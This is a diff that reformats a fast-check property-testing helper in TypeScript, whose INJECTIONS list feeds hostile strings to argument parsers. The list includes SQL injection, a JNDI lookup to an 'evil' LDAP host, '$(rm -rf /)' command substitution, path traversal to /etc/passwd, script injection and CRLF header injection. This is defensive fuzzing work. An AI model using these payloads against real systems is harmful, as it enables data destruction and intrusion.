@@ -10,11 +10,58 @@ import fc from "fast-check";
 export const SEED = process.env.FC_SEED ? Number(process.env.FC_SEED) : 20_240_607;
 
 export const INJECTIONS = [
-    "' OR 1=1 --", "\"; DROP TABLE tasks; --", "$" + "{jndi:ldap://evil/x}", "$(rm -rf /)", "`id`", "../../etc/passwd", "..\\..\\windows",
-    "a&b=c", "a=b", "a&offset=999", "x?limit=1", "#frag", "%00", "%2F%2e%2e", "%", "%%", "+", "a+b", "a b", "\u0000", "\r\nX-Injected: 1",
-    "inv-abc\ninv-def", "inv-abc,inv-def", "🚀", "ｉｎｖ-ａｂｃ", "inv-ABC", "<script>alert(1)</script>", "inv-", "invt-", " ", "", "\t", "\u202e",
-    "\uFEFF", "\ud800", "a".repeat(129), "a".repeat(257), "null", "undefined", "__proto__", "constructor", "toString", "SUCCESS", "0",
-    "-1", "2", "1e9", "NaN", "Infinity", "{}", "[]", "true",
+    "' OR 1=1 --",
+    '"; DROP TABLE tasks; --',
+    "$" + "{jndi:ldap://evil/x}",
+    "$(rm -rf /)",
+    "`id`",
+    "../../etc/passwd",
+    "..\\..\\windows",
+    "a&b=c",
+    "a=b",
+    "a&offset=999",
+    "x?limit=1",
+    "#frag",
+    "%00",
+    "%2F%2e%2e",
+    "%",
+    "%%",
+    "+",
+    "a+b",
+    "a b",
+    "\u0000",
+    "\r\nX-Injected: 1",
+    "inv-abc\ninv-def",
+    "inv-abc,inv-def",
+    "🚀",
+    "ｉｎｖ-ａｂｃ",
+    "inv-ABC",
+    "<script>alert(1)</script>",
+    "inv-",
+    "invt-",
+    " ",
+    "",
+    "\t",
+    "\u202e",
+    "\uFEFF",
+    "\ud800",
+    "a".repeat(129),
+    "a".repeat(257),
+    "null",
+    "undefined",
+    "__proto__",
+    "constructor",
+    "toString",
+    "SUCCESS",
+    "0",
+    "-1",
+    "2",
+    "1e9",
+    "NaN",
+    "Infinity",
+    "{}",
+    "[]",
+    "true",
 ];
 
 export const hostileString: fc.Arbitrary<string> = fc.oneof(
@@ -65,15 +112,18 @@ export function hostileArgs(known: readonly string[], plausible: Record<string, 
     const entry = (k: string) => (plausible[k] ? fc.oneof({ arbitrary: plausible[k], weight: 3 }, { arbitrary: hostileValue, weight: 1 }) : hostileValue);
     const keys = Object.fromEntries(known.map((k) => [k, entry(k)]));
     // An unknown name in one case of five (fc.option's freq is the odds of *no* value: 1 in freq).
-    const unknown = fc.tuple(fc.oneof(fc.constantFrom("instanceIds", "status ", "Limit", "secretkey", "__proto__", "constructor", "filters", " "), fc.string({ minLength: 1 })), hostileValue);
-    const hostile = fc.tuple(
-        fc.record(keys, { requiredKeys: [] }),
-        fc.oneof({ arbitrary: fc.constant(null), weight: 4 }, { arbitrary: unknown, weight: 1 }),
-    ).map(([args, extra]) => (extra ? { ...args, [extra[0]]: extra[1] } : args));
+    const unknown = fc.tuple(
+        fc.oneof(fc.constantFrom("instanceIds", "status ", "Limit", "secretkey", "__proto__", "constructor", "filters", " "), fc.string({ minLength: 1 })),
+        hostileValue,
+    );
+    const hostile = fc
+        .tuple(fc.record(keys, { requiredKeys: [] }), fc.oneof({ arbitrary: fc.constant(null), weight: 4 }, { arbitrary: unknown, weight: 1 }))
+        .map(([args, extra]) => (extra ? { ...args, [extra[0]]: extra[1] } : args));
     const names = known.filter((k) => plausible[k]);
     if (names.length === 0) return hostile;
     // Each plausible name in one case of two, so that names that exclude each other are often apart.
-    const plausibleOnly = fc.record(Object.fromEntries(names.map((k) => [k, fc.option(plausible[k], { freq: 2, nil: undefined })])))
+    const plausibleOnly = fc
+        .record(Object.fromEntries(names.map((k) => [k, fc.option(plausible[k], { freq: 2, nil: undefined })])))
         .map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)));
     return fc.oneof(hostile, plausibleOnly);
 }
@@ -128,12 +178,20 @@ export function field(plausible: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
 
 /** An object with the given fields, each of which may be dropped. */
 export function record(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
-    return fc.record(Object.fromEntries(Object.entries(fields).map(([k, a]) => [k, field(a)])), { requiredKeys: [] })
+    return fc
+        .record(Object.fromEntries(Object.entries(fields).map(([k, a]) => [k, field(a)])), { requiredKeys: [] })
         .map((r) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== undefined)));
 }
 
 export const wireTime = fc.oneof(
-    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString().replace(/\.\d{3}Z$/, "+00:00")),
-    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) => d.toISOString().replace("T", " ").replace(/\.\d{3}Z$/, "")),
+    fc
+        .date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true })
+        .map((d) => d.toISOString().replace(/\.\d{3}Z$/, "+00:00")),
+    fc.date({ min: new Date("1970-01-01T00:00:00Z"), max: new Date("2100-01-01T00:00:00Z"), noInvalidDate: true }).map((d) =>
+        d
+            .toISOString()
+            .replace("T", " ")
+            .replace(/\.\d{3}Z$/, ""),
+    ),
     timeFields.map(writeTime),
 );
